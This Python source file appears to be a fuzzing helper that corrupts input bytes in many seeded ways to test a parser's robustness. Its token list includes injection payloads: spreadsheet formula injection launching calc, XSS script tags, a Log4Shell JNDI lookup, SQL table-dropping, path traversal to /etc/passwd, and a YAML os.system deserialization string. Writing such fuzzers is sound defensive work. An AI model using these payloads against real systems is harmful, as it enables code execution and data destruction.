"""Bytes and values spoilt in every way that we could think of. The same generator gives the same bytes."""

from __future__ import annotations

import gzip
from collections.abc import Callable, Sequence
from typing import Final, TypeAlias, TypeVar

import numpy as np

Rng: TypeAlias = np.random.Generator
T = TypeVar("T")

TOKENS: Final[Sequence[bytes]] = (
    b"\x00",
    b"\x00" * 64,
    b"\x1b[2J\x1b[H",
    b"\x07",
    b"\x7f",
    b"\r",
    b"\n",
    b"\r\n",
    b"\n\n\n",
    b"\x0b",
    b"\x0c",
    b"\xff\xfe",
    b"\xfe\xff",
    b"\xef\xbb\xbf",
    b"\xc3\x28",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\x80",
    b"\x1a",
    b'"',
    b'""',
    b'"""',
    b"'",
    b"`",
    b",",
    b";",
    b"\t",
    b"|",
    b",,,,,,,,",
    b"\\",
    b'\\"',
    b"\\u0000",
    "\u202e\u202d\u2066".encode(),
    "\u200f".encode(),
    "\u2028\u2029".encode(),
    "\u0085".encode(),
    "\ufeff".encode(),
    "\U0001f600".encode(),
    "e\u0301".encode(),
    "\u0661\u0662".encode(),
    "\u2212\u0031".encode(),
    "\u00a0".encode(),
    b"=cmd|' /C calc'!A0",
    b"@SUM(1+1)*cmd|' /C calc'!A0",
    b"+1+1",
    b"-2+3",
    b'=HYPERLINK("http://x.example")',
    b"<script>alert(1)</script>",
    b"<img src=x onerror=alert(1)>",
    b"{{7*7}}",
    b"${jndi:ldap://x.example/a}",
    b"'; DROP TABLE deals; --",
    b"../../etc/passwd",
    b"/dev/zero",
    b"%s%n%x",
    b"NaN",
    b"nan",
    b"Infinity",
    b"-inf",
    b"1e999",
    b"-1e999",
    b"1e-999",
    b"9" * 400,
    b"-0",
    b"0x1F",
    b"1_000",
    b"1.7976931348623157e309",
    b"1e308",
    b"99999999999999999999",
    b"-9223372036854775808",
    b"0000-00-00",
    b"9999-12-31",
    b"10000-01-01",
    b"-4712-01-01",
    b"2025-02-30",
    b"31/12/2025",
    b"2025-06-30T25:61:61Z",
    b"1e5000-1e6000",
    b"$1e300K",
    b"null",
    b"None",
    b"true",
    b"#REF!",
    b"a" * 5_000,
    b"[" * 2_000,
    b"{" * 2_000,
    b"(" * 500,
    b"&a [*a]",
    b"*a",
    b"!!python/object/apply:os.system [id]",
    b"!!binary aGk=",
    b"---\n",
    b"? ",
    b": ",
    b"- ",
    b"<<: ",
    b"# ",
    b"sep=;\n",
)
HUGE: Final = 300_000
"""Bytes of the largest field that is put somewhere."""


def chosen(rng: Rng, among: Sequence[T]) -> T:
    """One of them."""
    return among[int(rng.integers(len(among)))]


def spoilt(data: bytes, rng: Rng) -> bytes:
    """The bytes after one to four changes, most often one: what is spoilt little is read far."""
    for _ in range(chosen(rng, (1, 1, 1, 1, 2, 2, 3, 4))):
        data = chosen(rng, _CHANGES)(data, rng)
    return data


def place_in(data: Sequence[object] | bytes, rng: Rng) -> int:
    """A place from the first to one past the last."""
    return int(rng.integers(len(data) + 1))


def _flip(data: bytes, rng: Rng) -> bytes:
    if not data:
        return data
    found = bytearray(data)
    for place in rng.integers(len(data), size=int(rng.integers(1, 9))):
        found[place] ^= int(rng.integers(1, 256))
    return bytes(found)


def _cut(data: bytes, rng: Rng) -> bytes:
    return data[: place_in(data, rng)]


def _without(data: bytes, rng: Rng) -> bytes:
    start = place_in(data, rng)
    return data[:start] + data[start + int(rng.integers(1, 200)) :]


def _doubled(data: bytes, rng: Rng) -> bytes:
    start = place_in(data, rng)
    part = data[start : start + int(rng.integers(1, 200))]
    return data[:start] + part * int(rng.integers(2, 5)) + data[start:]


def _with_token(data: bytes, rng: Rng) -> bytes:
    start = place_in(data, rng)
    return data[:start] + chosen(rng, TOKENS) + data[start:]


def _token_for_field(data: bytes, rng: Rng) -> bytes:
    """A whole field or word replaced."""
    start = place_in(data, rng)
    left = max((data.rfind(mark, 0, start) for mark in (b",", b"\n", b" ", b":")), default=-1) + 1
    ends = [end for mark in (b",", b"\n") if (end := data.find(mark, start)) >= 0]
    return data[:left] + chosen(rng, TOKENS) + data[min(ends, default=len(data)) :]


def _swapped_lines(data: bytes, rng: Rng) -> bytes:
    lines = data.split(b"\n")
    one, other = int(rng.integers(len(lines))), int(rng.integers(len(lines)))
    lines[one], lines[other] = lines[other], lines[one]
    return b"\n".join(lines)


def _repeated_line(data: bytes, rng: Rng) -> bytes:
    lines = data.split(b"\n")
    place = int(rng.integers(len(lines)))
    return b"\n".join([*lines[:place], *([lines[place]] * int(rng.integers(1, 30))), *lines[place:]])


def _changed_mark(data: bytes, rng: Rng) -> bytes:
    return data.replace(
        chosen(rng, (b",", b"\n", b":", b" ", b'"')), chosen(rng, (b";", b"\t", b"\r", b"\r\n", b"|", b""))
    )


def _huge(data: bytes, rng: Rng) -> bytes:
    if rng.random() > 0.05:
        return data
    start = place_in(data, rng)
    return data[:start] + chosen(rng, (b"x", b"\x00", b"9", b'"', b",", b"[", b"\n")) * HUGE + data[start:]


def _other_encoding(data: bytes, rng: Rng) -> bytes:
    text = data.decode("utf-8", "replace")
    return text.encode(
        chosen(rng, ("utf-16", "utf-16-le", "utf-32", "cp1252", "utf-8-sig", "utf-7", "cp037")), "replace"
    )


def _packed(data: bytes, rng: Rng) -> bytes:
    packed = gzip.compress(data, 1, mtime=0)
    return chosen(
        rng,
        (packed, packed[:-5], packed + b"x", packed + packed, b"\x1f\x8b", b"\x1f\x8b" + data, b"PK\x03\x04" + data),
    )


def _nothing(_data: bytes, rng: Rng) -> bytes:
    return chosen(rng, (b"", b"\n", b" ", b"\x00", b"\xef\xbb\xbf", b"\xff\xfe", b'"'))


_OFTEN: Final[tuple[Callable[[bytes, Rng], bytes], ...]] = (
    _flip,
    _without,
    _doubled,
    _with_token,
    _with_token,
    _token_for_field,
    _token_for_field,
    _swapped_lines,
    _repeated_line,
)
_CHANGES: Final = (*_OFTEN, *_OFTEN, *_OFTEN, _cut, _changed_mark, _huge, _other_encoding, _packed, _nothing)
